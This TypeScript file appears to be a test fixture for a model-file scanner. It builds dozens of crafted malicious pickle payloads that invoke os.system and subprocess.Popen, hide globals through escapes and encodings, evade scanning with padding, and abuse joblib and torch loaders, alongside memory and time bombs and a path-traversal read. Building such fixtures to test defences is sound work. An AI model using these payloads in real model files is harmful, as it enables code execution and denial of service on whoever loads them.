import { deflateSync } from 'node:zlib';
import { harmless, op, pickle } from '../../helpers/assembler.ts';
import { call, command, joined, uint, type Attack } from './bytes.ts';

const dict = (...pairs: Buffer[]): Buffer => joined(op.emptyDict, op.mark, ...pairs, op.setitems);
const newobj = (module: string, name: string): Buffer => joined(op.global(module, name), op.emptyTuple, op.newobj);
/** joblib's mark of an array whose bytes follow. */
const wrapper = (shape: Buffer, dtype: Buffer, extra: Buffer = joined()): Buffer =>
  joined(
    newobj('joblib.numpy_pickle', 'NumpyArrayWrapper'),
    dict(
      op.text4('subclass'),
      op.global('numpy', 'ndarray'),
      op.text4('shape'),
      shape,
      op.text4('order'),
      op.text4('C'),
      op.text4('dtype'),
      dtype,
      op.text4('allow_mmap'),
      op.none,
      extra,
    ),
    op.build,
  );
const f8 = call('numpy', 'dtype', op.text4('f8'), op.binint1(0), op.binint1(1));
const evilTail = joined(op.pop, op.global('os', 'system'), op.text4('true'), op.tuple1, op.reduce);
/** A tuple of a tuple of a tuple, each twice: Python hashes 2^depth values. */
const bomb = (depth: number): Buffer =>
  joined(op.none, ...Array.from({ length: depth }, () => joined(op.dup, op.tuple2)));

const MACHINE: readonly (readonly [technique: string, content: Buffer])[] = [
  ['os.environ SETITEM', pickle(2, op.global('os', 'environ'), op.text4('LD_PRELOAD'), op.text4('x.so'), op.setitem)],
  ['sys.path APPEND', pickle(2, op.global('sys', 'path'), op.text4('/tmp'), op.append)],
  ['allowed package __path__ APPEND', pickle(2, op.global('sklearn', '__path__'), op.text4('/tmp'), op.append)],
  ['allowed module attribute: numpy.__builtins__', pickle(2, op.global('numpy', '__builtins__'))],
  [
    'allowed module, class __init__',
    pickle(4, op.text('collections'), op.text('OrderedDict.__init__'), op.stackGlobal),
  ],
  [
    'allowed module, class __subclasses__',
    pickle(4, op.text('builtins'), op.text('object.__subclasses__'), op.stackGlobal, op.emptyTuple, op.reduce),
  ],
  ['allowed module, private sys', pickle(4, op.text('collections'), op.text('_sys.modules'), op.stackGlobal)],
  [
    'joblib.numpy_pickle through pickle',
    pickle(
      4,
      op.text('joblib.numpy_pickle'),
      op.text('pickle.loads'),
      op.stackGlobal,
      op.shortBytes(command),
      op.tuple1,
      op.reduce,
    ),
  ],
  [
    'sklearn re-export of joblib.load',
    pickle(4, op.text('sklearn.utils._joblib'), op.text('joblib.load'), op.stackGlobal),
  ],
  [
    'BUILD slots on allowed instance: __class__',
    pickle(
      2,
      newobj('sklearn.linear_model._logistic', 'LogisticRegression'),
      op.none,
      dict(op.text4('__class__'), op.global('numpy', 'ndarray')),
      op.tuple2,
      op.build,
    ),
  ],
  [
    'BUILD overriding predict',
    pickle(
      2,
      newobj('sklearn.linear_model._logistic', 'LogisticRegression'),
      dict(op.text4('predict'), op.global('os', 'system')),
      op.build,
    ),
  ],
  [
    'estimator whose func is dangerous',
    pickle(
      2,
      newobj('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
      dict(op.text4('func'), op.global('os', 'system')),
      op.build,
    ),
  ],
  [
    'estimator whose func is exec in numpy',
    pickle(
      2,
      newobj('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
      dict(op.text4('func'), op.global('numpy', 'load')),
      op.build,
    ),
  ],
  [
    'scorer over builtins.eval',
    pickle(
      2,
      newobj('sklearn.metrics._scorer', '_Scorer'),
      dict(op.text4('_score_func'), op.global('builtins', 'eval')),
      op.build,
    ),
  ],
  [
    'defaultdict with factory exit',
    pickle(2, op.global('collections', 'defaultdict'), op.global('builtins', 'exit'), op.tuple1, op.reduce),
  ],
  ['memory bomb: bytearray of a TB', pickle(2, call('builtins', 'bytearray', op.long1(0, 0, 0, 0, 0, 1)))],
  [
    'memory bomb: list(range)',
    pickle(
      2,
      op.global('builtins', 'list'),
      call('builtins', 'range', op.long1(0, 0, 0, 0, 0, 1)),
      op.tuple1,
      op.reduce,
    ),
  ],
  ['memory bomb: numpy zeros', pickle(2, call('numpy', 'zeros', op.long1(0, 0, 0, 0, 0, 1)))],
  [
    'memory bomb: ndarray constructor',
    pickle(2, call('numpy', 'ndarray', joined(op.long1(0, 0, 0, 0, 0, 1), op.tuple1))),
  ],
  [
    'memory bomb: numpy _reconstruct shape',
    pickle(
      2,
      call(
        'numpy.core.multiarray',
        '_reconstruct',
        op.global('numpy', 'ndarray'),
        joined(op.long1(0, 0, 0, 0, 0, 1), op.tuple1),
        op.shortBytes(Buffer.from('b')),
      ),
    ),
  ],
  ['time bomb: hash of nested tuples', pickle(2, op.emptyDict, bomb(40), op.none, op.setitem)],
  ['time bomb: nested frozensets', pickle(4, op.mark, bomb(60), Buffer.of(0x91))],
  ['LONG of a million digits', pickle(0, op.long('9'.repeat(1_000_000) + 'L'))],
  ['INT of a million digits', pickle(0, op.int('9'.repeat(1_000_000)))],
  [
    'PUT with a plus sign',
    pickle(0, op.global('os', 'system'), op.put('+7'), op.pop, op.get('7'), op.text4('true'), op.tuple1, op.reduce),
  ],
  [
    'GET with spaces',
    pickle(0, op.global('os', 'system'), op.put(' 7 '), op.pop, op.get('0_7'), op.text4('true'), op.tuple1, op.reduce),
  ],
  [
    'STRING in octal escapes',
    pickle(
      0,
      op.string("'\\157\\163'"),
      op.string("'\\163ystem'"),
      op.stackGlobal,
      op.text4('true'),
      op.tuple1,
      op.reduce,
    ),
  ],
  ['STRING over a line by escape', pickle(0, op.string("'o\\\ns'"), op.string("'system'"), op.stackGlobal)],
  [
    'UNICODE with \\U',
    pickle(
      0,
      op.unicodeLine('\\U0000006f\\U00000073'),
      op.unicodeLine('system'),
      op.stackGlobal,
      op.text4('true'),
      op.tuple1,
      op.reduce,
    ),
  ],
  ['BINSTRING operands', pickle(1, joined('T', uint(4, 2), 'os'), joined('T', uint(4, 6), 'system'), op.stackGlobal)],
  [
    'module by bytes decode',
    pickle(4, call('_codecs', 'encode', op.text4('os'), op.text4('latin1')), op.text('system'), op.stackGlobal),
  ],
  [
    'module name from a dict key of a popped list',
    pickle(4, op.mark, op.text('os'), op.memoize, op.popMark, op.binget(0), op.text('system'), op.stackGlobal),
  ],
  ['callable out of DUP', pickle(4, op.global('os', 'system'), op.dup, op.pop, op.text('true'), op.tuple1, op.reduce)],
  ['OBJ with no args on class', pickle(1, op.mark, op.global('code', 'InteractiveConsole'), op.obj, op.pop, op.none)],
  ['POP_MARK hides the call', pickle(2, op.mark, call('os', 'system', op.text4('true')), op.popMark, op.none)],
  [
    'REDUCE with list as args',
    pickle(2, op.global('os', 'system'), op.emptyList, op.text4('true'), op.append, op.reduce),
  ],
  [
    'NEWOBJ_EX kwargs',
    pickle(4, op.global('subprocess', 'Popen'), op.emptyTuple, dict(op.text4('args'), op.text4('true')), op.newobjEx),
  ],
  [
    'joblib wrapper: shape overwritten by second BUILD',
    joined(
      op.proto(2),
      newobj('joblib.numpy_pickle', 'NumpyArrayWrapper'),
      dict(
        op.text4('subclass'),
        op.global('numpy', 'ndarray'),
        op.text4('shape'),
        joined(op.binint1(0), op.tuple1),
        op.text4('order'),
        op.text4('C'),
        op.text4('dtype'),
        f8,
        op.text4('allow_mmap'),
        op.none,
      ),
      op.build,
      evilTail,
      op.stop,
    ),
  ],
  [
    'joblib wrapper: huge shape',
    joined(op.proto(2), wrapper(joined(op.long1(0, 0, 0, 0, 0, 0, 0, 0x7f), op.tuple1), f8), op.stop),
  ],
  [
    'joblib wrapper: negative shape',
    joined(op.proto(2), wrapper(joined(op.long1(0xff), op.tuple1), f8), evilTail, op.stop),
  ],
  [
    'joblib wrapper: list shape',
    joined(
      op.proto(2),
      wrapper(joined(op.emptyList, op.binint1(2), op.append), f8),
      Buffer.alloc(16, 0x2e),
      evilTail,
      op.stop,
    ),
  ],
  [
    'joblib wrapper: bool shape',
    joined(op.proto(2), wrapper(joined(Buffer.of(0x88), op.tuple1), f8), Buffer.alloc(8, 0x2e), evilTail, op.stop),
  ],
  [
    'joblib wrapper: structured dtype',
    joined(
      op.proto(2),
      wrapper(
        joined(op.binint1(1), op.tuple1),
        joined(call('numpy', 'dtype', op.text4('V16'), op.binint1(0), op.binint1(1))),
      ),
      Buffer.alloc(16, 0x2e),
      evilTail,
      op.stop,
    ),
  ],
  [
    'joblib wrapper: dtype of objects in fields',
    joined(
      op.proto(2),
      wrapper(
        joined(op.binint1(1), op.tuple1),
        call('numpy', 'dtype', joined(op.emptyList, op.text4('a'), op.text4('O'), op.tuple2, op.append)),
      ),
      command,
      op.stop,
    ),
  ],
  [
    'joblib wrapper: alignment bytes',
    joined(
      op.proto(2),
      wrapper(joined(op.binint1(2), op.tuple1), f8, joined(op.text4('numpy_array_alignment_bytes'), op.binint1(16))),
      Buffer.of(4),
      Buffer.alloc(4),
      Buffer.alloc(16, 0x2e),
      evilTail,
      op.stop,
    ),
  ],
  [
    'joblib old NDArrayWrapper reads a file',
    pickle(
      2,
      newobj('joblib.numpy_pickle_compat', 'NDArrayWrapper'),
      dict(op.text4('filename'), op.text4('../../x.npy'), op.text4('subclass'), op.global('numpy', 'ndarray')),
      op.build,
    ),
  ],
  ['joblib ZF header', joined('ZF', '0x0000000000000040'.padEnd(21, ' '), deflateSync(command))],
  ['BYTEARRAY8 longer than the file', joined(op.proto(5), Buffer.of(0x96), uint(8, 2 ** 40), command)],
  ['BINBYTES8 longer than the file', joined(op.proto(4), Buffer.of(0x8e), uint(8, 2 ** 40), command)],
  ['negative LONG4', joined(op.proto(2), Buffer.of(0x8b, 0xff, 0xff, 0xff, 0xff), op.pop, command)],
  ['FRAME longer than the file', joined(op.proto(4), op.frame(2 ** 40), command.subarray(2))],
  ['PROTO 200', joined(Buffer.of(0x80, 200), command.subarray(2))],
  [
    'torch storage of a callable',
    pickle(
      2,
      joined(
        op.mark,
        op.text4('storage'),
        op.global('os', 'system'),
        op.text4('0'),
        op.text4('cpu'),
        op.binint1(1),
        op.tuple,
        op.binpersid,
      ),
    ),
  ],
  [
    'torch rebuild with a stride beyond its storage',
    pickle(
      2,
      call(
        'torch._utils',
        '_rebuild_tensor_v2',
        joined(
          op.mark,
          op.text4('storage'),
          op.global('torch', 'FloatStorage'),
          op.text4('0'),
          op.text4('cpu'),
          op.binint1(1),
          op.tuple,
          op.binpersid,
        ),
        op.binint1(0),
        joined(op.long1(0, 0, 0, 0x40), op.tuple1),
        joined(op.binint1(1), op.tuple1),
        Buffer.of(0x89),
        call('collections', 'OrderedDict'),
      ),
    ),
  ],
  [
    'torch hooks that call',
    pickle(
      2,
      call(
        'torch._utils',
        '_rebuild_parameter',
        op.none,
        Buffer.of(0x88),
        joined(call('collections', 'OrderedDict'), op.binint1(0), op.global('os', 'system'), op.setitem),
      ),
    ),
  ],
  [
    'magic number of legacy torch by eval',
    joined(
      pickle(2, call('builtins', 'eval', op.text4('0x1950A86A20F9469CFC6C'))),
      pickle(2, joined('M', Buffer.of(0xe9, 3))),
      pickle(2, op.emptyDict),
      harmless,
    ),
  ],
  ['behind newlines and tabs', joined(harmless, '\n\n\t\t', command)],
  ['behind many harmless pickles', joined(...Array.from({ length: 3000 }, () => harmless), command)],
  ['behind zero bytes', joined(Buffer.alloc(4096), command)],
  ['behind a long text line', joined(op.proto(2), 'V', 'a'.repeat(131_000), '\n', op.pop, command.subarray(2))],
];

/** What turns the pickle machine itself, or an allowed class, against the loader or the scanner. */
export const MACHINE_ATTACKS: readonly Attack[] = MACHINE.map(([technique, content]) => [
  technique,
  'model.pkl',
  content,
]);
